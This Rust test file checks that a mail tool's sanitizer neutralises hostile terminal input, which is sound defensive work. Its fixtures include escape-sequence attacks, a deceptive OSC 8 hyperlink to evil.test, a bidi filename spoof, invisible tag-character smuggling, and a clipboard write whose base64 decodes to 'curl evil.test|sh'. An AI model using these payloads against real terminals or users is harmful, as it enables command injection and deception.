//! The sanitizer against a corpus of hostile strings (issue 4, "Tests"): terminal escape
//! sequences in 7- and 8-bit form, bidi and invisible characters, NUL, DEL, invalid UTF-8 and
//! very long lines. Whatever goes in, what comes out must be inert on a terminal, keep the
//! printable text, and show controls in the documented caret form (`^[`, `M-^[`, `^?`).

use std::time::{Duration, Instant};

use mailroom::sanitize::{
    is_clean_line, multi_line, multi_line_bytes, single_line, single_line_bytes, single_line_cow,
};

/// Bidi controls and other format (Cf) characters that must never reach the screen.
const FORMAT: &[char] = &[
    '\u{00AD}',  // soft hyphen
    '\u{061C}',  // Arabic letter mark
    '\u{180E}',  // Mongolian vowel separator
    '\u{200B}',  // zero width space
    '\u{200C}',  // zero width non-joiner
    '\u{200D}',  // zero width joiner
    '\u{200E}',  // LRM
    '\u{200F}',  // RLM
    '\u{202A}',  // LRE
    '\u{202B}',  // RLE
    '\u{202C}',  // PDF
    '\u{202D}',  // LRO
    '\u{202E}',  // RLO
    '\u{2060}',  // word joiner
    '\u{2061}',  // function application
    '\u{2064}',  // invisible plus
    '\u{2066}',  // LRI
    '\u{2067}',  // RLI
    '\u{2068}',  // FSI
    '\u{2069}',  // PDI
    '\u{206A}',  // inhibit symmetric swapping
    '\u{206F}',  // nominal digit shapes
    '\u{FEFF}',  // BOM / zero width no-break space
    '\u{FFF9}',  // interlinear annotation anchor
    '\u{FFFB}',  // interlinear annotation terminator
    '\u{E0001}', // language tag
    '\u{E0041}', // tag latin capital A ("ASCII smuggling")
    '\u{E007F}', // cancel tag
];

/// Every property an output line must have: no ESC, no other C0 (except `\n` where allowed),
/// no C1, no DEL, no bidi/format character.
fn assert_inert(out: &str, newlines_allowed: bool, input: &str) {
    assert!(
        !out.as_bytes().contains(&0x1b),
        "ESC in output of {input:?}: {out:?}"
    );
    for c in out.chars() {
        let v = c as u32;
        let ok_newline = newlines_allowed && c == '\n';
        assert!(
            v >= 0x20 || ok_newline,
            "C0 {v:#04x} in output of {input:?}: {out:?}"
        );
        assert!(v != 0x7f, "DEL in output of {input:?}");
        assert!(
            !(0x80..=0x9f).contains(&v),
            "C1 {v:#04x} in output of {input:?}: {out:?}"
        );
        assert!(
            !FORMAT.contains(&c),
            "format char U+{v:04X} in output of {input:?}: {out:?}"
        );
    }
}

fn check_all(input: &str) -> (String, String) {
    let one = single_line(input);
    assert_inert(&one, false, input);
    let many = multi_line(input);
    assert_inert(&many, true, input);
    let bytes = single_line_bytes(input.as_bytes());
    assert_eq!(bytes, one, "bytes and str forms differ for {input:?}");
    assert_eq!(single_line_cow(input), one);
    assert!(
        is_clean_line(&one),
        "single_line output is not clean: {one:?}"
    );
    // Sanitizing twice changes nothing more.
    assert_eq!(single_line(&one), one);
    (one, many)
}

#[test]
fn csi_sequences_7_and_8_bit() {
    let cases = [
        ("\u{1b}[31mred\u{1b}[0m", "^[[31mred^[[0m"),
        ("\u{1b}[2J\u{1b}[H", "^[[2J^[[H"),
        ("\u{1b}[1;1H\u{1b}[K", "^[[1;1H^[[K"),
        ("\u{1b}[6n", "^[[6n"), // cursor position query: would make the terminal type
        ("\u{1b}[?1049h", "^[[?1049h"),
        ("\u{1b}[200~paste\u{1b}[201~", "^[[200~paste^[[201~"),
        ("\u{9b}31mred", "M-^[31mred"), // C1 CSI
        ("\u{9b}2J", "M-^[2J"),
        ("\u{1b}c", "^[c"), // full reset
        ("\u{1b}7\u{1b}8", "^[7^[8"),
        ("\u{1b}", "^["),
        ("x\u{1b}", "x^["),
    ];
    for (input, want) in cases {
        let (one, _) = check_all(input);
        assert_eq!(one, want, "{input:?}");
    }
}

#[test]
fn osc_sequences_title_hyperlink_clipboard() {
    let cases = [
        // OSC 0: window title, BEL- and ST-terminated.
        ("\u{1b}]0;pwned\u{7}", "^[]0;pwned^G"),
        ("\u{1b}]0;pwned\u{1b}\\", "^[]0;pwned^[\\"),
        ("\u{1b}]2;title\u{9c}", "^[]2;titleM-^\\"),
        // OSC 8: a hyperlink whose visible text lies about its target.
        (
            "\u{1b}]8;;https://evil.test/\u{1b}\\https://bank.test\u{1b}]8;;\u{1b}\\",
            "^[]8;;https://evil.test/^[\\https://bank.test^[]8;;^[\\",
        ),
        (
            "\u{1b}]8;;file:///etc/passwd\u{7}click\u{1b}]8;;\u{7}",
            "^[]8;;file:///etc/passwd^Gclick^[]8;;^G",
        ),
        // OSC 52: write the clipboard.
        (
            "\u{1b}]52;c;Y3VybCBldmlsLnRlc3R8c2g=\u{7}",
            "^[]52;c;Y3VybCBldmlsLnRlc3R8c2g=^G",
        ),
        ("\u{1b}]52;c;?\u{1b}\\", "^[]52;c;?^[\\"),
        // C1 OSC.
        ("\u{9d}0;title\u{9c}", "M-^]0;titleM-^\\"),
    ];
    for (input, want) in cases {
        let (one, _) = check_all(input);
        assert_eq!(one, want, "{input:?}");
    }
}

#[test]
fn dcs_apc_pm_sos_and_other_c1() {
    let cases = [
        ("\u{1b}P1$r0m\u{1b}\\", "^[P1$r0m^[\\"), // DCS (DECRQSS answer spoofing)
        (
            "\u{1b}Pq#0;2;0;0;0#0~~@@vv\u{1b}\\",
            "^[Pq#0;2;0;0;0#0~~@@vv^[\\",
        ), // sixel
        ("\u{90}1$r\u{9c}", "M-^P1$rM-^\\"),      // C1 DCS … ST
        ("\u{1b}_Gf=100;AAAA\u{1b}\\", "^[_Gf=100;AAAA^[\\"), // APC (kitty graphics)
        ("\u{9f}apc\u{9c}", "M-^_apcM-^\\"),      // C1 APC
        ("\u{1b}^privacy\u{1b}\\", "^[^privacy^[\\"), // PM
        ("\u{9e}pm\u{9c}", "M-^^pmM-^\\"),        // C1 PM
        ("\u{1b}Xsos\u{1b}\\", "^[Xsos^[\\"),     // SOS
        ("\u{98}sos\u{9c}", "M-^XsosM-^\\"),
        ("\u{85}next line", "M-^Enext line"), // NEL
        ("\u{84}\u{88}\u{8d}\u{8e}\u{8f}", "M-^DM-^HM-^MM-^NM-^O"),
        ("\u{80}\u{9f}", "M-^@M-^_"),
    ];
    for (input, want) in cases {
        let (one, _) = check_all(input);
        assert_eq!(one, want, "{input:?}");
    }
}

#[test]
fn every_c0_and_del_has_its_caret_form() {
    for v in 0u32..0x20 {
        let c = char::from_u32(v).unwrap_or('?');
        let input = format!("a{c}b");
        let (one, many) = check_all(&input);
        let want = if c == '\t' {
            "a       b".to_string()
        } else {
            format!("a^{}b", char::from_u32(v + 0x40).unwrap_or('?'))
        };
        assert_eq!(one, want, "U+{v:04X}");
        if c == '\n' {
            assert_eq!(many, "a\nb");
        } else {
            assert_eq!(many, want, "multi_line U+{v:04X}");
        }
    }
    let (one, _) = check_all("a\u{7f}b");
    assert_eq!(one, "a^?b");
    let (one, _) = check_all("nul\0byte");
    assert_eq!(one, "nul^@byte");
    for v in 0x80u32..=0x9f {
        let c = char::from_u32(v).unwrap_or('?');
        let (one, _) = check_all(&format!("a{c}b"));
        assert_eq!(
            one,
            format!("aM-^{}b", char::from_u32(v - 0x40).unwrap_or('?')),
            "U+{v:04X}"
        );
    }
}

#[test]
fn line_breaks() {
    assert_eq!(single_line("a\r\nb\nc\rd"), "a^M^Jb^Jc^Md");
    assert_eq!(multi_line("a\r\nb\nc\rd"), "a\nb\nc^Md");
    // A carriage return cannot be used to overwrite what was shown before it on the line.
    assert_eq!(multi_line("Amount: $10\r$99999"), "Amount: $10^M$99999");
    assert_eq!(multi_line("\r\n\r\n"), "\n\n");
    assert_eq!(multi_line("x\r"), "x^M");
}

#[test]
fn bidi_overrides_isolates_and_invisible_characters_are_removed() {
    assert_eq!(single_line("invoice\u{202E}fdp.exe"), "invoicefdp.exe");
    assert_eq!(
        single_line("\u{2067}admin\u{2069} approved"),
        "admin approved"
    );
    assert_eq!(single_line("pay\u{200B}pal"), "paypal");
    assert_eq!(single_line("\u{FEFF}Subject"), "Subject");
    // Tag characters smuggle invisible ASCII.
    assert_eq!(
        single_line("hi\u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}\u{E007F}"),
        "hi"
    );
    for &c in FORMAT {
        let input = format!("<{c}>");
        let (one, many) = check_all(&input);
        assert_eq!(one, "<>", "U+{:04X}", c as u32);
        assert_eq!(many, "<>");
    }
    // Mixed with escapes and line breaks.
    check_all("\u{202E}\u{1b}[31m\u{2066}x\u{9b}\n\u{200F}y\r\n");
}

#[test]
fn invalid_utf8_is_replaced_never_passed_through() {
    let cases: &[(&[u8], &str)] = &[
        (b"a\xffb", "a\u{FFFD}b"),
        (b"\xc3", "\u{FFFD}"),                   // truncated 2-byte sequence
        (b"\xe2\x82", "\u{FFFD}"),               // truncated 3-byte sequence
        (b"\xc0\x9b31m", "\u{FFFD}\u{FFFD}31m"), // overlong CSI
        (b"\xc0\x80", "\u{FFFD}\u{FFFD}"),       // overlong NUL
        (b"\xe0\x80\x9b", "\u{FFFD}\u{FFFD}\u{FFFD}"), // overlong CSI, 3 bytes
        (b"\xed\xa0\x80", "\u{FFFD}\u{FFFD}\u{FFFD}"), // a UTF-16 surrogate
        (b"\xf4\x90\x80\x80", "\u{FFFD}\u{FFFD}\u{FFFD}\u{FFFD}"), // above U+10FFFF
        (b"\x9b31m", "\u{FFFD}31m"),             // a raw 8-bit CSI byte (Latin-1 mail)
        (b"\x1b\x9b\x1b", "^[\u{FFFD}^["),
        (b"caf\xc3\xa9", "café"),
    ];
    for (input, want) in cases {
        let out = single_line_bytes(input);
        assert_eq!(&out, want, "{input:?}");
        assert_inert(&out, false, &String::from_utf8_lossy(input));
        let many = multi_line_bytes(input);
        assert_inert(&many, true, &String::from_utf8_lossy(input));
    }
    // Every single byte and every byte pair.
    for a in 0..=255u8 {
        let out = single_line_bytes(&[a]);
        assert_inert(&out, false, &format!("{a:#04x}"));
        for b in 0..=255u8 {
            let out = single_line_bytes(&[b'x', a, b, b'y']);
            assert_inert(&out, false, &format!("{a:#04x} {b:#04x}"));
            assert!(out.starts_with('x') && out.ends_with('y'), "{out:?}");
        }
    }
}

#[test]
fn printable_text_is_preserved() {
    for s in [
        "Grüße aus Zürich — 東京 🎉",
        "Re: [Ticket #4211] Refund – “urgent” (ÄÖÜ)",
        "שלום עולם and مرحبا", // right-to-left text itself is fine; only controls go
        "combining: e\u{301} n\u{303}",
        "emoji ZWJ-free: 👍🏽",
        "   spaces   kept   ",
        "",
    ] {
        let (one, many) = check_all(s);
        assert_eq!(one, s);
        assert_eq!(many, s);
    }
    // Around escapes, every printable character survives in order.
    let (one, _) = check_all("Hello \u{1b}[1mbold\u{1b}[0m world");
    assert_eq!(one, "Hello ^[[1mbold^[[0m world");
    assert_eq!(
        one.replace("^[[1m", "").replace("^[[0m", ""),
        "Hello bold world"
    );
}

#[test]
fn tabs_expand_to_columns() {
    assert_eq!(single_line("a\tb"), "a       b");
    assert_eq!(single_line("\t"), "        ");
    assert_eq!(single_line("12345678\tx"), "12345678        x");
    assert_eq!(multi_line("ab\n\tc"), "ab\n        c");
    // A caret form takes two columns.
    assert_eq!(single_line("\u{1b}\tx"), "^[      x");
}

/// Builds a string of about `bytes` bytes by repeating `unit`.
fn repeat_to(unit: &str, bytes: usize) -> String {
    unit.repeat(bytes / unit.len().max(1) + 1)
}

#[test]
fn lines_of_100_kb_are_fast_and_inert() {
    let units = [
        "\u{1b}",
        "\u{1b}[31m",
        "\u{9b}",
        "\u{202E}",
        "\u{200B}",
        "\u{E0041}",
        "\t",
        "\r",
        "\0",
        "\u{7f}",
        "a\u{1b}]8;;http://x/\u{7}b",
        "plain printable text ",
        "東京",
        "\u{1b}]52;c;QUFBQQ==\u{1b}\\",
    ];
    let started = Instant::now();
    for unit in units {
        let input = repeat_to(unit, 100 * 1024);
        let (one, many) = check_all(&input);
        assert!(
            one.len() <= input.len() * 8,
            "{} → {}",
            input.len(),
            one.len()
        );
        assert!(many.len() <= input.len() * 8);
    }
    // One line of 100 KB of everything mixed, and of random bytes.
    let mut mixed = String::new();
    let mut i = 0u32;
    while mixed.len() < 100 * 1024 {
        let c = char::from_u32(i % 0x3000).unwrap_or(' ');
        mixed.push(c);
        mixed.push_str(units[(i as usize) % units.len()]);
        i += 1;
    }
    check_all(&mixed);
    let mut x = 0x2545_f491_4f6c_dd1du64;
    let random: Vec<u8> = (0..100 * 1024)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 56) as u8
        })
        .collect();
    assert_inert(&single_line_bytes(&random), false, "random bytes");
    assert_inert(&multi_line_bytes(&random), true, "random bytes");
    // Debug build, every check above included: linear work finishes far below this.
    assert!(
        started.elapsed() < Duration::from_secs(10),
        "{:?}",
        started.elapsed()
    );
    // The sanitizer alone, on 1 MB of escapes.
    let big = repeat_to("\u{1b}[2J\u{9b}\u{202E}x", 1 << 20);
    let started = Instant::now();
    let out = single_line(&big);
    assert!(
        started.elapsed() < Duration::from_secs(2),
        "{:?}",
        started.elapsed()
    );
    assert_inert(&out, false, "1 MB");
}

#[test]
fn every_code_point_at_once() {
    let all: String = (0..=0x10FFFFu32).filter_map(char::from_u32).collect();
    let (one, many) = check_all(&all);
    // Printable characters all survive: the output keeps every non-control, non-format char.
    let kept = |s: &str| {
        s.chars()
            .filter(|c| {
                let v = *c as u32;
                !(v < 0x20 || (0x7f..=0x9f).contains(&v) || FORMAT.contains(c))
            })
            .count()
    };
    assert!(
        kept(&one) >= kept(&all) - 300,
        "{} of {}",
        kept(&one),
        kept(&all)
    );
    assert!(many.len() >= one.len() / 2);
}
